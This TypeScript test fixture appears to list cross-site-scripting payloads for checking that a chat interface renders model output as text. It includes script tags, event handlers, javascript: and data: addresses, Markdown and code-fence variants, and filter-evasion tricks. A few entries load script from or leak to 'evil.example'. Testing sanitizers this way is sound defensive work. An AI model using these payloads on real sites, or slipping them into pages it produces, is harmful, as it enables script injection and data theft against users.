/**
 * Texts that would run a script in a page that took them for anything but text. Each calls `pwned`,
 * which a page under test has none of its own.
 */

/** Where browsers run scripts from markup: elements, handlers, addresses, styles, namespaces. */
const MARKUP: readonly string[] = [
  '<script>pwned()</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>pwned()</scr</script>ipt>',
  '<script type="module">pwned()</script>',
  '<img src=x onerror=pwned()>',
  '<img src="x" onerror="pwned()">',
  "<img src='x' onerror='pwned()'>",
  '<IMG """><SCRIPT>pwned()</SCRIPT>">',
  '<img src=x:x onerror&#61;pwned()>',
  '<img/src=x/onerror=pwned()>',
  '<img srcset="x" onerror=pwned()>',
  '<svg onload=pwned()>',
  '<svg/onload=pwned()>',
  '<svg><script>pwned()</script></svg>',
  '<svg><animate onbegin=pwned() attributeName=x dur=1s>',
  '<svg><set attributeName=href to=javascript:pwned() /><a><text>x</text></a></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.pwned()</script>"></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;">',
  '<math href="javascript:pwned()">x</math>',
  '<body onload=pwned()>',
  '<body/onpageshow=pwned()>',
  '<iframe src="javascript:parent.pwned()"></iframe>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<object data="javascript:pwned()"></object>',
  '<embed src="javascript:pwned()">',
  '<link rel=stylesheet href="javascript:pwned()">',
  '<link rel=import href="data:text/html,<script>pwned()</script>">',
  '<meta http-equiv=refresh content="0;url=javascript:pwned()">',
  '<base href="javascript:pwned()//">',
  '<form action="javascript:pwned()"><input type=submit autofocus></form>',
  '<button formaction="javascript:pwned()">x</button>',
  '<input autofocus onfocus=pwned()>',
  '<select autofocus onfocus=pwned()></select>',
  '<textarea autofocus onfocus=pwned()></textarea>',
  '<keygen autofocus onfocus=pwned()>',
  '<details open ontoggle=pwned()><summary>x</summary></details>',
  '<video><source onerror=pwned()></video>',
  '<video poster=javascript:pwned()></video>',
  '<audio src=x onerror=pwned()></audio>',
  '<marquee onstart=pwned()>x</marquee>',
  '<div style="background:url(javascript:pwned())">x</div>',
  '<div style="width:expression(pwned())">x</div>',
  '<style>@import "javascript:pwned()";</style>',
  '<style>*{background:url(//evil.example/leak)}</style>',
  '<a href="javascript:pwned()">x</a>',
  '<a href="java&#10;script:pwned()">x</a>',
  '<a href="&#x6A;avascript:pwned()">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+">x</a>',
  '<div onpointerenter=pwned() onmouseover=pwned()>x</div>',
  '<xss id=x tabindex=1 onfocus=pwned()></xss>',
  '<template><script>pwned()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
  '<!--<img src="--><img src=x onerror=pwned()//">',
  '<![CDATA[<script>pwned()</script>]]>',
  '<?xml version="1.0"?><script>pwned()</script>',
  '"><script>pwned()</script>',
  "'><img src=x onerror=pwned()>",
  '</textarea><script>pwned()</script>',
  '</title><script>pwned()</script>',
  '</style><script>pwned()</script>',
  'javascript:pwned()',
  '" onmouseover="pwned()" x="',
  '` onmouseover=pwned() `',
  '{{constructor.constructor("pwned()")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what a careless template would run
  '${pwned()}',
  '#{pwned()}',
  '<%= pwned() %>',
  '\u202e<script>pwned()</script>\u202c',
  '＜script＞pwned()＜/script＞',
];

/** Addresses that are no addresses. */
const ADDRESSES: readonly string[] = [
  'javascript:pwned()',
  'JaVaScRiPt:pwned()',
  'java\tscript:pwned()',
  'javascript&colon;pwned()',
  '&#106;avascript:pwned()',
  'vbscript:pwned()',
  'data:text/html,<script>pwned()</script>',
  'data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+',
  'data:image/svg+xml,<svg onload=pwned() xmlns="http://www.w3.org/2000/svg"/>',
  'blob:https://evil.example/x',
  'file:///etc/passwd',
  '//evil.example/x',
  'https://evil.example/pixel.png',
];

/** Ways of Markdown to make an element of an address. */
const MARKDOWN: readonly ((address: string) => string)[] = [
  (address) => `[click](${address})`,
  (address) => `[click](<${address}>)`,
  (address) => `![picture](${address})`,
  (address) => `[click][1]\n\n[1]: ${address}`,
  (address) => `<${address}>`,
  (address) => `| a |\n|---|\n| [x](${address}) |`,
];

const FENCES: readonly string[] = [
  '```html\n<img src=x onerror=pwned()>\n```',
  '```"><img src=x onerror=pwned()>\nx\n```',
  '```mermaid\ngraph TD; A["<img src=x onerror=pwned()>"]-->B; click A "javascript:pwned()"\n```',
  '```js {onload=pwned()}\nx\n```',
  '$$\\href{javascript:pwned()}{x}$$',
  '$\\htmlData{x=<img src=x onerror=pwned()>}{x}$',
  '# <img src=x onerror=pwned()>',
  '- <img src=x onerror=pwned()>',
  '[^1]\n\n[^1]: <img src=x onerror=pwned()>',
  '`<img src=x onerror=pwned()>`',
];

/** Everything a model could say. */
export const SAID: readonly string[] = [
  ...MARKUP,
  ...ADDRESSES.flatMap((address) => MARKDOWN.map((way) => way(address))),
  ...FENCES,
  // Half-written, as a stream shows it.
  ...MARKUP.slice(0, 45).map((text) => text.slice(0, Math.ceil(text.length * 0.7))),
];

/** What fits on one line, for names and errors. */
export const NAMED: readonly string[] = [...MARKUP, ...ADDRESSES].filter(
  (text) => !/[\p{Cc}\p{Cs}]/u.test(text) && text.length <= 128,
);
